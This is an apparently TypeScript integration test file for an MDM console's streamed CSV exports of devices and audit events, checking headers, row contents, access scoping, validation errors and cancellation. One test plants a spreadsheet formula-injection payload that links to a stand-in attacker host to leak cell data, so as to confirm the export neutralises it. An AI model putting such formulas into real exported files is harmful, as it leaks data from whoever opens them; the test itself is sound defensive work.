import { DEMO_EMEA_SPACE, type ApiClient } from '@mdm-console/contract';
import { freePort } from '@mdm-console/devkit/free-port';
import { scrapeAll, sumOf } from '@mdm-console/devkit/prometheus';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { apiAs, call, errorCode, signIn, startHarness, type Harness } from './harness.ts';

/** Streamed CSV export of a view and of the activity, against the simulator over HTTP. */
let h: Harness;
let base: string;
let admin: ApiClient;
let adminCookie: string;
let viewerCookie: string;

const BOM = '\uFEFF';

/** The export's raw bytes as text (the BOM kept: fetch's text() would drop it) and its rows. */
async function exportOf(cookie: string, query: string) {
  const response = await fetch(`${base}/api/devices/export.csv?${query}`, {
    headers: { 'x-csrf': '1', cookie, 'accept-encoding': 'gzip, br' },
  });
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await response.arrayBuffer());
  const rows: string[][] = response.ok ? parse(text.replace(/^\uFEFF/, ''), { relax_column_count: false }) : [];
  return { response, text, rows };
}

beforeAll(async () => {
  h = await startHarness({}, { SIM_DEVICES: '8000' });
  base = h.bff.url;
  adminCookie = await signIn(base, 'admin@demo.local');
  viewerCookie = await signIn(base, 'viewer@demo.local');
  admin = apiAs(base, adminCookie);
});
afterAll(async () => {
  await h.close();
});

describe('export of a view', () => {
  it('when a viewer exports a filtered view, then every matching device comes once, with the chosen columns under their labels', async () => {
    const view = { f: ['platform:ANDROID'] };
    const search = await admin.searchDevices({ query: { ...view, size: 1 } });
    expect(search.total).toBeGreaterThan(500);
    const { response, text, rows } = await exportOf(
      viewerCookie,
      'f=platform:ANDROID&sort=deviceName&order=asc&columns=id,deviceName,platformType,lastCheckin,attr:assetTag',
    );
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toMatch(/attachment; filename="devices\.csv"/);
    // Written as the vendor walk goes: not held back by compression (a JSON answer is compressed).
    expect(response.headers.get('content-encoding')).toBeNull();
    const json = await fetch(`${base}/api/devices?size=150&f=platform:ANDROID`, {
      headers: { 'x-csrf': '1', cookie: viewerCookie, 'accept-encoding': 'gzip, br' },
    });
    expect(json.headers.get('content-encoding')).toBe('br');
    expect(await json.json()).toMatchObject({ total: search.total });
    expect(Number(response.headers.get('x-total-count'))).toBe(search.total);
    expect(text.startsWith(BOM)).toBe(true);
    expect(rows[0]).toEqual(['ID', 'Name', 'Platform', 'Last check-in', 'assetTag']);
    const body = rows.slice(1);
    expect(body).toHaveLength(search.total);
    expect(new Set(body.map((row) => row[0])).size).toBe(search.total);
    expect(body.every((row) => row[2] === 'ANDROID')).toBe(true);
    expect(body.every((row) => row[3] === '' || /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/.test(row[3] ?? ''))).toBe(
      true,
    );
    expect(body.some((row) => row[3] !== '')).toBe(true);
    // In the order the table shows them: the search's first page is the export's first rows.
    const firstPage = await admin.searchDevices({ query: { ...view, sort: 'deviceName', order: 'asc', size: 500 } });
    expect(body.slice(0, 500).map((row) => Number(row[0]))).toEqual(firstPage.rows.map((row) => row.id));
  });

  it('when a cell would start a formula, then it comes out inert', async () => {
    const [device] = (await admin.searchDevices({ query: { size: 1, sort: 'id', order: 'asc' } })).rows;
    if (!device) throw new Error('the tenant has devices');
    const formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
    await admin.mergeCustomAttributes({
      params: { id: String(device.id) },
      body: { attrs: { costCentre: [formula], note: ['+1 sales', '@team'] } },
    });
    const { rows } = await exportOf(
      adminCookie,
      `q=${encodeURIComponent(device.serialNumber ?? '')}&columns=id,attr:costCentre,attr:note`,
    );
    const row = rows.find((cells) => cells[0] === String(device.id));
    expect(row?.[1]).toBe(`'${formula}`);
    expect(row?.[2]).toBe("'+1 sales; @team");
  });

  it('when the columns or the query are wrong, then a clear 400 comes before any row', async () => {
    for (const [query, code] of [
      ['columns=deviceName,secretField', 'VALIDATION_FAILED'],
      ['f=platform:IOS', 'VALIDATION_FAILED'],
      ['columns=deviceName&size=10', 'UNKNOWN_FIELD'],
      ['columns=deviceName&fq=platformType%3D%22IOS%22', 'FORBIDDEN'],
    ] as const) {
      const reply = await call(base, 'GET', `/api/devices/export.csv?${query}`, { cookie: viewerCookie });
      expect([reply.status >= 400 && reply.status < 500, errorCode(reply)]).toEqual([true, code]);
    }
  });

  it('when a user limited to a space exports, then only that space’s devices come, and another space is refused', async () => {
    const cookie = await signIn(base, 'emea-helpdesk@demo.local');
    const emea = await admin.searchDevices({ query: { space: DEMO_EMEA_SPACE, size: 1 } });
    const { rows } = await exportOf(cookie, 'columns=id,dmPartitionId');
    expect(rows.length - 1).toBe(emea.total);
    expect(new Set(rows.slice(1).map((row) => row[1]))).toEqual(new Set([String(DEMO_EMEA_SPACE)]));
    const elsewhere = await exportOf(cookie, 'space=23504&columns=id');
    expect(elsewhere.response.status).toBe(403);
  });

  it('when the browser stops reading, then the vendor walk stops within a second', { timeout: 120_000 }, async () => {
    // A tenant large and slow enough that the walk takes seconds: over 20 pages of 500, 100 ms each.
    const slow = await startHarness(
      { METRICS_PORT: String(await freePort()) },
      { SIM_DEVICES: '40000', SIM_LATENCY_MS: '100' },
    );
    try {
      const cookie = await signIn(slow.bff.url, 'admin@demo.local');
      const vendorCalls = async () =>
        sumOf(await scrapeAll([slow.bff.metricsUrl ?? '']), (key) => key.startsWith('mdm_vendor_requests_total{'));
      const total = (await apiAs(slow.bff.url, cookie).searchDevices({ query: { size: 1 } })).total;
      const pages = Math.ceil(total / 500);
      expect(pages).toBeGreaterThan(15);
      const before = await vendorCalls();
      const stop = new AbortController();
      const response = await fetch(`${slow.bff.url}/api/devices/export.csv?columns=id,deviceName&sort=id`, {
        headers: { 'x-csrf': '1', cookie },
        signal: stop.signal,
      });
      await response.body?.getReader().read();
      stop.abort();
      await new Promise((resolve) => setTimeout(resolve, 1_000));
      const atCancel = await vendorCalls();
      await new Promise((resolve) => setTimeout(resolve, 1_000));
      expect(await vendorCalls()).toBe(atCancel);
      expect(atCancel - before).toBeLessThan(pages / 2);
    } finally {
      await slow.close();
    }
  });
});

describe('export of the activity', () => {
  it('when the activity is exported with a filter, then its events come as CSV, newest first', async () => {
    const response = await fetch(`${base}/api/audit/export.csv?action=device.attributes.merge`, {
      headers: { 'x-csrf': '1', cookie: adminCookie },
    });
    expect(response.status).toBe(200);
    const rows: string[][] = parse(await response.text());
    expect(rows[0]).toEqual(['time', 'actor', 'role', 'action', 'targets', 'parameters', 'outcome', 'request_id']);
    const page = await admin.listAudit({ query: { action: 'device.attributes.merge', limit: 500 } });
    expect(rows.slice(1).map((row) => row[0])).toEqual(page.events.map((event) => event.at));
    expect(rows.length - 1).toBeGreaterThan(0);
  });
});
